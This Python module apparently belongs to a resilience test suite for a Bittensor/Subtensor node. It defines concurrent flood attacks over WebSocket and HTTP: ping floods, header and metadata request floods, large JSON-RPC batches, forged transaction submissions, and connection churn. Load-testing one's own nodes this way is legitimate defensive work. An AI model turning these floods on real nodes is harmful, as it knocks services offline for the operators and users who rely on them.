"""Many sockets that send messages at the same time, without a pause, and read all answers."""

from __future__ import annotations

import asyncio
import contextlib
import struct
from collections.abc import Awaitable, Callable
from time import perf_counter

from pysubtensor.runtime.pallets.system import remark

from .attack import Attack, Target, request
from .connections import HEADER, UPGRADE, served
from .long_work import forged

#: Seconds for which a flood lasts at full size.
FULL_S = 6.0
#: Bytes that are sent at a time, at least, and that are read at a time, at most.
CHUNK_BYTES, READ_BYTES = 64 * 1024, 1024 * 1024
TEXT, PING = 0x1, 0x9

Sender = Callable[[asyncio.StreamReader, asyncio.StreamWriter, float], Awaitable[None]]


def frame(payload: bytes, opcode: int = TEXT) -> bytes:
    """Return a WebSocket frame of a client with a mask of zeros."""
    size = len(payload)
    if size < 126:
        return struct.pack(">BBI", 0x80 | opcode, 0x80 | size, 0) + payload
    if size < 1 << 16:
        return struct.pack(">BBHI", 0x80 | opcode, 0x80 | 126, size, 0) + payload
    return struct.pack(">BBQI", 0x80 | opcode, 0x80 | 127, size, 0) + payload


def posted(body: bytes) -> bytes:
    """Return a request over HTTP."""
    return HEADER + b"Content-Length: %d\r\n\r\n%b" % (len(body), body)


async def flood(target: Target, count: int, sent: bytes, first: bytes = b"") -> str:
    """Send the same bytes again and again over `count` sockets, and read what comes; a short time in the suite."""
    end = perf_counter() + (FULL_S if count > 8 else 0.0)
    chunk = sent * max(1, CHUNK_BYTES // len(sent) if count > 8 else 1)
    read = await asyncio.gather(*[flood_one(target, first, chunk, end) for _ in range(count)])
    await served(target)
    return f"served, {sum(read) / 1e6:,.0f} MB read from {count} sockets"


async def flood_one(target: Target, first: bytes, chunk: bytes, end: float) -> int:
    """Flood over one socket; return how many bytes the node has answered."""
    reader, writer = await asyncio.open_connection(target.host, target.port)
    reading = asyncio.create_task(read_all(reader))
    with contextlib.suppress(ConnectionError, TimeoutError):
        async with asyncio.timeout(max(1.0, end - perf_counter())):
            writer.write(first + chunk)
            while perf_counter() < end:
                await writer.drain()
                writer.write(chunk)
    writer.transport.abort()
    return await reading


async def read_all(reader: asyncio.StreamReader) -> int:
    size = 0
    with contextlib.suppress(ConnectionError):
        while data := await reader.read(READ_BYTES):
            size += len(data)
    return size


def over_websockets(payload: bytes, opcode: int = TEXT) -> Callable[[Target, int], Awaitable[str]]:
    return lambda target, count: flood(target, count, frame(payload, opcode), UPGRADE)


def over_http(body: bytes) -> Callable[[Target, int], Awaitable[str]]:
    return lambda target, count: flood(target, count, posted(body))


async def come_and_go(target: Target, count: int) -> str:
    """Connect, ask once and leave, again and again, `count` clients at a time."""
    end = perf_counter() + (FULL_S if count > 8 else 0.0)
    sent, visits = UPGRADE + frame(request("system_chain")), 0

    async def visit_often() -> None:
        nonlocal visits
        while not visits or perf_counter() < end:
            with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(target.host, target.port)
                writer.write(sent)
                await reader.readuntil(b"Bittensor")
                writer.transport.abort()
            visits += 1

    await asyncio.gather(*[visit_often() for _ in range(count)])
    await served(target)
    return f"served, {visits:,} visits"


def batch(body: bytes, count: int) -> bytes:
    return b"[" + b",".join([body] * count) + b"]"


FORGED = request("author_submitExtrinsic", "0x" + forged(remark.call(b"").encode()).hex())
HEADERS = batch(request("chain_getHeader"), 1_000)

ATTACKS = [
    Attack("flood of pings", over_websockets(b"", PING), small=3, full=50),
    Attack("flood of requests", over_websockets(request("chain_getHeader")), small=3, full=50),
    Attack("flood of forged transactions", over_websockets(FORGED), 3, 50),
    Attack("flood of batches", over_websockets(HEADERS), small=3, full=50),
    Attack("flood of requests over HTTP", over_http(request("chain_getHeader")), small=3, full=50),
    Attack("flood of batches over HTTP", over_http(HEADERS), small=3, full=50),
    Attack("flood of requests for metadata", over_websockets(request("state_getMetadata")), small=3, full=20),
    Attack("flood of requests for metadata over HTTP", over_http(request("state_getMetadata")), small=3, full=20),
    Attack("flood of batches for metadata", over_websockets(batch(request("state_getMetadata"), 10)), small=3, full=20),
    Attack("clients that come and go", come_and_go, small=3, full=50),
]
